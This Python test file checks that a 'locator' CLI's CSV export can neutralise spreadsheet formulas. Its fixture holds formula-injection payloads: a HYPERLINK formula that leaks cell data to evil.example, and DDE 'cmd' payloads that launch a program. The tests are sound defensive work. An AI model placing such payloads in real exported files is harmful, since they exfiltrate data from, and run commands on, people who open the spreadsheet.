"""`locator export`: the round-trip CSV keeps formula-like values exact; --safe-for-spreadsheets neutralises them."""
from __future__ import annotations

import csv
import io

import pytest
from click.testing import CliRunner

from locator.cli import main
from locator.spreadsheet import FORMULA_PREFIXES, neutralise
from tests.db.ingest_support import write_json
from tests.factories import office, partner_data

HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "description": "=cmd|' /C calc'!A0",
    "phone": "+49 30 1234567",
    "internal": {"channel_account_manager": "@SUM(1+1)*cmd|' /C calc'!A0", "notes": "-2+3+cmd|' /C calc'!A0"},
}


@pytest.fixture
def cli(fresh_db, tmp_path):
    url = fresh_db.engine.url.render_as_string(hide_password=False)
    runner = CliRunner()
    run = lambda *args: runner.invoke(main, ["--database-url", url, *args])  # noqa: E731
    records = [partner_data(id="F1", offices=[office(40.7, -73.99, city="New York", country="US")], **HOSTILE),
               partner_data(id="F2", name="Plain Partner", offices=[office(-33.87, 151.21, city="Sydney", country="AU")])]
    result = run("import", str(write_json(tmp_path / "in.json", records)))
    assert result.exit_code == 0 and "created 2" in result.output, result.output
    return run


def rows(path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))


def test_the_round_trip_export_keeps_values_exact(cli, tmp_path):
    path = tmp_path / "partners.csv"
    result = cli("export", str(path))
    assert result.exit_code == 0, result.output
    first = rows(path)[0]
    assert first["name"] == HOSTILE["name"] and first["description"] == HOSTILE["description"]
    assert first["internal_notes"] == HOSTILE["internal"]["notes"]
    again = cli("import", str(path))
    assert again.exit_code == 0 and "unchanged 2" in again.output, again.output


def test_safe_for_spreadsheets_neutralises_every_formula_cell(cli, tmp_path):
    path = tmp_path / "for-excel.csv"
    result = cli("export", "--safe-for-spreadsheets", str(path))
    assert result.exit_code == 0, result.output
    assert "for spreadsheets" in result.output
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # a BOM, so Excel reads UTF-8
    data = rows(path)
    first, second = data
    assert first["name"] == "'" + HOSTILE["name"]
    assert first["description"] == "'" + HOSTILE["description"]
    assert first["phone"] == "'" + HOSTILE["phone"]
    assert first["internal_channel_account_manager"] == "'" + HOSTILE["internal"]["channel_account_manager"]
    assert first["internal_notes"] == "'" + HOSTILE["internal"]["notes"]
    assert (first["office_lon"], second["office_lat"]) == ("-73.99", "-33.87")  # coordinates stay numbers
    for row in data:
        for column, value in row.items():
            if column not in ("office_lat", "office_lon"):
                assert not value.startswith(FORMULA_PREFIXES), (column, value)


def test_safe_for_spreadsheets_is_for_csv_only(cli, tmp_path):
    result = cli("export", "--safe-for-spreadsheets", str(tmp_path / "partners.json"))
    assert result.exit_code == 2
    assert result.output.strip().startswith("error: ") and len(result.output.strip().splitlines()) == 1
    assert "CSV" in result.output and not (tmp_path / "partners.json").exists()


def test_the_help_says_which_export_is_which():
    text = " ".join(CliRunner().invoke(main, ["export", "--help"]).output.split())
    assert "--safe-for-spreadsheets" in text and "exact" in text and "formula" in text


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_neutralise_quotes_every_formula_prefix(prefix):
    assert neutralise(f"{prefix}1+1") == f"'{prefix}1+1"
    assert neutralise("plain") == "plain" and neutralise(None) == "" and neutralise(12) == "12"


def test_the_seller_csv_uses_the_same_function():
    from locator.formats import seller_csv

    assert seller_csv.neutralise is neutralise and seller_csv.FORMULA_PREFIXES is FORMULA_PREFIXES
